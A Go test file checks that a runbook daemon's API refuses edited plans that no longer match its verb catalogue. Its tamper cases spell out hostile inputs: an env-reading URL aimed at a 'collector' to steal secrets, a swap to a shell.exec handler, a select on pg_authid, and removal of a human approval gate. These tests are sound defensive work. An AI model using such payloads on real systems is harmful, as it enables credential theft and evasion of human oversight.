package httpapi_test

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"

	"github.com/runbookdev/runbook/apitype"
	"github.com/runbookdev/runbook/builtin"
	"github.com/runbookdev/runbook/client"
	"github.com/runbookdev/runbook/compiler"
	"github.com/runbookdev/runbook/durable/pgtest"
	"github.com/runbookdev/runbook/httpapi"
	"github.com/runbookdev/runbook/registry"
	"github.com/runbookdev/runbook/runtime"
	"github.com/runbookdev/runbook/verbs"
)

// planVerbs adds to testVerbs an HTTP call whose params read the daemon's
// environment, and the verb that compensates it, which no step calls.
// API_URL is replaced with a test server's address.
const planVerbs = `
- name: fetch
  domain: p
  policy_tags: [read_only]
  execution:
    kind: sync
    handler: http.call
    params:
      url: API_URL/things
      headers: {Authorization: "Bearer ${env:API_TOKEN}"}
    side_effects: external_call
    compensation: {verb: p.undo, args: {id: "@args.id"}}
  input_schema:
    properties:
      id: {type: string}
  output_schema:
    properties:
      ok: {type: boolean}
- name: undo
  domain: p
  execution: {kind: sync, handler: core.echo, side_effects: internal_db}
  input_schema:
    properties:
      id: {type: string}
`

// planSource calls a verb twice, the HTTP call, and a gated verb.
const planSource = `(t.echo :v $who :as @first)
(t.echo :v @first.v :as @second)
(p.fetch :id @second.v :as @got)
(t.approve :v "ok" :after @got :as @sign)
`

// recorder is an HTTP server that keeps the Authorization header of each
// request it gets.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	auth []string
}

func newRecorder(t *testing.T) *recorder {
	r := &recorder{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.auth = append(r.auth, req.Header.Get("Authorization"))
		r.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"ok": true}`))
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *recorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.auth...)
}

// planBundle is a daemon whose catalogue calls api, and a collector that
// an edited plan would like to send the daemon's secrets to.
type planBundle struct {
	ctx       context.Context
	client    *client.Client
	cat       *registry.Catalogue
	api       *recorder
	collector *recorder
}

// setupPlans starts an engine and API as setup does, over testVerbs and
// planVerbs, with an environment holding API_TOKEN and HOME. Without a
// catalogue it starts one that has no verbs.
func setupPlans(t *testing.T, withCatalogue bool) *planBundle {
	t.Helper()
	t.Parallel()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	b := &planBundle{ctx: ctx, api: newRecorder(t), collector: newRecorder(t)}
	env := map[string]string{"API_TOKEN": "s3cret", "HOME": "/home/rbd"}
	handlers := runtime.NewHandlers(builtin.Deps{LookupEnv: func(k string) (string, bool) { v, ok := env[k]; return v, ok }})
	defs, diags := verbs.Parse("test.yaml", []byte(testVerbs+strings.ReplaceAll(planVerbs, "API_URL", b.api.URL)))
	require.Empty(t, diags)
	cat, diags := registry.New(defs, handlers.Specs())
	require.Empty(t, diags)
	b.cat = cat
	cfg := runtime.Config{PollInterval: 50 * time.Millisecond, Metrics: runtime.NewMetrics(prometheus.NewRegistry())}
	if withCatalogue {
		cfg.Catalogue = cat
	}
	engine := runtime.New(pgtest.Store(t), handlers, cfg)
	runCtx, stop := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- engine.Run(runCtx) }()
	t.Cleanup(func() {
		stop()
		require.NoError(t, <-done)
	})
	srv := httptest.NewServer(httpapi.New(httpapi.Config{Engine: engine, Tokens: []string{testToken}, MaxBody: 1 << 20}))
	t.Cleanup(srv.Close)
	b.client = &client.Client{BaseURL: srv.URL, Token: testToken}
	return b
}

// compile is what `rbc compile` writes for planSource with the daemon's
// verbs.
func (b *planBundle) compile(t *testing.T) []byte {
	t.Helper()
	plan, diags := compiler.CompileSource("plan.rbk", []byte(planSource), b.cat)
	require.False(t, diags.HasErrors(), diags.Error())
	return plan.JSON()
}

// editPlan changes a plan as JSON and gives it the hash of its new
// content, as someone holding a token and the plan format could.
func editPlan(t *testing.T, raw []byte, change func(doc map[string]any)) []byte {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.UseNumber()
	var doc map[string]any
	require.NoError(t, dec.Decode(&doc))
	change(doc)
	edited, err := json.Marshal(doc)
	require.NoError(t, err)
	p, err := compiler.DecodePlan(edited)
	require.NoError(t, err)
	p.PlanHash = p.Hash()
	return p.JSON()
}

func planStep(doc map[string]any, key string) map[string]any {
	for _, s := range doc["steps"].([]any) {
		if s.(map[string]any)["key"] == key {
			return s.(map[string]any)
		}
	}
	panic("no step " + key)
}

func object(v any, path ...string) map[string]any {
	for _, k := range path {
		v = v.(map[string]any)[k]
	}
	return v.(map[string]any)
}

// TestSubmittedPlansRunOnlyWhatTheCatalogueHolds edits a compiled plan in
// each way that would change what runs, with a recomputed hash: each is
// 422 INVALID_PLAN with diagnostics naming the verb, nothing is stored,
// and the collector never hears from the daemon. The plan as compiled
// runs, with the catalogue's params and environment.
func TestSubmittedPlansRunOnlyWhatTheCatalogueHolds(t *testing.T) {
	b := setupPlans(t, true)
	raw := b.compile(t)
	steal := b.collector.URL + "/?home=${env:HOME}"
	cases := []struct {
		name   string
		change func(doc map[string]any)
		code   string // of the one diagnostic
		want   string // in its message
	}{
		{"another handler", func(doc map[string]any) {
			object(planStep(doc, "got"), "execution")["handler"] = "pg.crud"
			object(planStep(doc, "got"), "execution")["params"] = map[string]any{"table": "pg_authid", "op": "select"}
		}, "E072", `step "got" calls p.fetch with an execution block that differs from this daemon's catalogue in handler, params.headers, params.op, params.table, params.url`},
		{"a handler the daemon lacks", func(doc map[string]any) {
			object(planStep(doc, "first"), "execution")["handler"] = "shell.exec"
		}, "E072", `step "first" calls t.echo with an execution block that differs from this daemon's catalogue in handler`},
		{"params reading the environment, sent elsewhere", func(doc map[string]any) {
			object(planStep(doc, "got"), "execution", "params")["url"] = steal
		}, "E072", `step "got" calls p.fetch with an execution block that differs from this daemon's catalogue in params.url`},
		{"no side effects, so no receipts", func(doc map[string]any) {
			object(planStep(doc, "got"), "execution")["side_effects"] = "none"
		}, "E072", `step "got" calls p.fetch with an execution block that differs from this daemon's catalogue in side_effects`},
		{"the second step of a verb, the first untouched", func(doc map[string]any) {
			object(planStep(doc, "second"), "execution")["params"] = map[string]any{"result": map[string]any{"v": "forged"}}
		}, "E072", `step "second" calls t.echo with an execution block that differs from this daemon's catalogue in params`},
		{"a verb the daemon lacks", func(doc map[string]any) {
			planStep(doc, "first")["verb"] = "t.ecko"
			object(doc, "verbs")["t.ecko"] = object(doc, "verbs", "t.echo")
		}, "E010", `step "first" calls "t.ecko", which this daemon's catalogue does not define`},
		{"an output schema", func(doc map[string]any) {
			object(doc, "verbs", "p.fetch")["output_schema"] = map[string]any{}
		}, "E072", `the plan's verbs table holds a definition of p.fetch that differs from this daemon's catalogue in output_schema`},
		{"an input schema", func(doc map[string]any) {
			object(doc, "verbs", "t.echo", "input_schema", "properties")["v"] = map[string]any{"type": "integer"}
		}, "E072", `the plan's verbs table holds a definition of t.echo that differs from this daemon's catalogue in input_schema`},
		{"the compensation's block", func(doc map[string]any) {
			exec := object(doc, "verbs", "p.undo", "execution")
			exec["handler"], exec["params"] = "http.call", map[string]any{"url": steal}
		}, "E072", `the plan's verbs table holds a definition of p.undo that differs from this daemon's catalogue in execution.handler, execution.params`},
		{"a verb's gate removed", func(doc map[string]any) {
			planStep(doc, "sign")["gate"] = "none"
		}, "E072", `step "sign" has gate "none", but t.approve declares gate "human_confirm", which no step can remove`},
	}
	for _, c := range cases {
		edited := editPlan(t, raw, c.change)
		_, err := b.client.Submit(b.ctx, apitype.SubmitRequest{Plan: edited, Inputs: map[string]any{"who": "eve"}})
		var apiErr *client.Error
		require.ErrorAs(t, err, &apiErr, c.name)
		require.Equal(t, http.StatusUnprocessableEntity, apiErr.StatusCode, c.name)
		require.Equal(t, httpapi.CodeInvalidPlan, string(apiErr.Code), c.name)
		require.Len(t, apiErr.Diagnostics, 1, "%s: %s", c.name, apiErr.Error())
		d := apiErr.Diagnostics[0]
		require.Equal(t, c.code, string(d.Code), c.name)
		require.Contains(t, d.Message, c.want, c.name)
		require.Contains(t, d.Notes, "the plan was compiled against another catalogue; compile it again with this daemon's verbs", c.name)
		require.Equal(t, "the plan cannot be run: "+d.Text(), apiErr.Message, c.name)
		require.Equal(t, "plan.json", d.Range.File, c.name)
	}
	page, err := b.client.List(b.ctx, client.ListRequest{})
	require.NoError(t, err)
	require.Empty(t, page.Runbooks, "no refused plan was stored")

	// The plan as compiled runs, with the catalogue's URL and secret.
	sub, err := b.client.Submit(b.ctx, apitype.SubmitRequest{Plan: raw, Inputs: map[string]any{"who": "eve"}})
	require.NoError(t, err)
	require.True(t, sub.Created)
	v := waitForView(t, b, sub.ID.String(), func(v *apitype.RunbookView) bool { return v.State == "awaiting_approval" })
	require.JSONEq(t, `{"ok":true}`, string(v.Outcomes["got"]))
	require.Equal(t, []string{"Bearer s3cret"}, b.api.requests())
	require.Empty(t, b.collector.requests())
}

// TestSubmittedPlanDiagnosticsNameTheFile: diagnostics point into the
// plan under the filename the request gives, and a repeat of problems
// across steps is one diagnostic.
func TestSubmittedPlanDiagnosticsNameTheFile(t *testing.T) {
	b := setupPlans(t, true)
	edited := editPlan(t, b.compile(t), func(doc map[string]any) {
		for _, key := range []string{"first", "second"} {
			object(planStep(doc, key), "execution")["side_effects"] = "external_call"
		}
	})
	_, err := b.client.Submit(b.ctx, apitype.SubmitRequest{Plan: edited, Filename: "mine.json", Inputs: map[string]any{"who": "eve"}})
	var apiErr *client.Error
	require.ErrorAs(t, err, &apiErr)
	require.Len(t, apiErr.Diagnostics, 1, apiErr.Error())
	d := apiErr.Diagnostics[0]
	require.Equal(t, "mine.json", d.Range.File)
	require.Contains(t, d.Message, `step "first" calls t.echo`)
	require.Contains(t, d.Notes, "1 more steps have the same problem")

	// The hash alone: still INVALID_PLAN, now with E071.
	tampered := bytes.Replace(b.compile(t), []byte(`"v":{"$input":"who"}`), []byte(`"v":"mallory"`), 1)
	_, err = b.client.Submit(b.ctx, apitype.SubmitRequest{Plan: tampered, Inputs: map[string]any{}})
	require.ErrorAs(t, err, &apiErr)
	require.Equal(t, httpapi.CodeInvalidPlan, string(apiErr.Code))
	require.Equal(t, "E071", string(apiErr.Diagnostics[0].Code))
}

// TestDaemonWithoutVerbsRefusesPlans: with no catalogue there is nothing
// to check a plan against, so it is not run.
func TestDaemonWithoutVerbsRefusesPlans(t *testing.T) {
	b := setupPlans(t, false)
	_, err := b.client.Submit(b.ctx, apitype.SubmitRequest{Plan: b.compile(t), Inputs: map[string]any{"who": "eve"}})
	requireAPIError(t, err, http.StatusBadRequest, httpapi.CodeInvalidRequest, "no verb catalogue to check plans against")
}

func waitForView(t *testing.T, b *planBundle, id string, cond func(*apitype.RunbookView) bool) *apitype.RunbookView {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		v, err := b.client.Get(b.ctx, id)
		require.NoError(t, err)
		if cond(v) {
			return v
		}
		if time.Now().After(deadline) {
			t.Fatalf("runbook %s never got there; it is %s/%s", id, v.Status, v.State)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
